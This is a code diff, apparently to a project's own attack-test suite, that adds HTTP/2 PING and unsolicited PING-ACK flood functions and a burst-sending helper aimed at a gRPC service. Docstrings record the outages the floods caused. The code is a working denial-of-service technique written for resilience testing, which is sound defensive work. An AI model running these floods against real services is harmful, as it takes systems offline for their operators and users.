@@ -7,7 +7,7 @@ import time
 from contextlib import suppress
 
 from hpack import Encoder
-from hyperframe.frame import HeadersFrame, PingFrame, RstStreamFrame, SettingsFrame
+from hyperframe.frame import Frame, HeadersFrame, PingFrame, RstStreamFrame, SettingsFrame
 
 from tests.attacks.attack import Target
 from tests.attacks.memory import SERVICE
@@ -35,6 +35,34 @@ async def pings(target: Target, count: int) -> None:
         reading.cancel()
         writer.transport.abort()
         sent += 1_000  # also if the server ends every connection at once
+
+
+async def pings_unread(target: Target, count: int) -> None:
+    """Sends megabytes of PINGs, as fast as the server takes them, and reads no answer.
+
+    An outage of 7 s: gRPC copied a growing list of complaints for each PING.
+    """
+    _, writer = await _connected(target.address)
+    await _send_frames(writer, PingFrame(opaque_data=bytes(8)), count)
+
+
+async def answers_unasked(target: Target, count: int) -> None:
+    """Sends megabytes of answers to PINGs that were never sent, as fast as the server takes them.
+
+    gRPC has nothing to do for them: an outage for as long as they came.
+    """
+    _, writer = await _connected(target.address)
+    await _send_frames(writer, PingFrame(opaque_data=bytes(8), flags=["ACK"]), count)
+
+
+async def _send_frames(writer: asyncio.StreamWriter, frame: Frame, megabytes: int) -> None:
+    burst = frame.serialize() * (2**20 // 17)
+    with suppress(OSError, TimeoutError):
+        async with asyncio.timeout(SECONDS):
+            for _ in range(megabytes):
+                writer.write(burst)
+                await writer.drain()
+    writer.transport.abort()
 
 
 async def resets(target: Target, count: int) -> None:
